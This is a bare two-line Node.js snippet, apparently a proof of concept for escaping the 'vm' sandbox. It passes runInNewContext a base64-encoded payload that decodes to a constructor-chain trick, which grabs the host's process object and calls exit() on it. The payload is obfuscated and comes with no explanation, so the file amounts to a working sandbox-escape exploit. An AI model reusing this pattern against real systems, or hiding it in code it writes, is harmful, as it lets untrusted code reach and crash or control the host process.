const vm = require("vm");
vm.runInNewContext(atob("dGhpcy5jb25zdHJ1Y3Rvci5jb25zdHJ1Y3RvcigncmV0dXJuIHByb2Nlc3MnKSgpLmV4aXQoKQ=="));
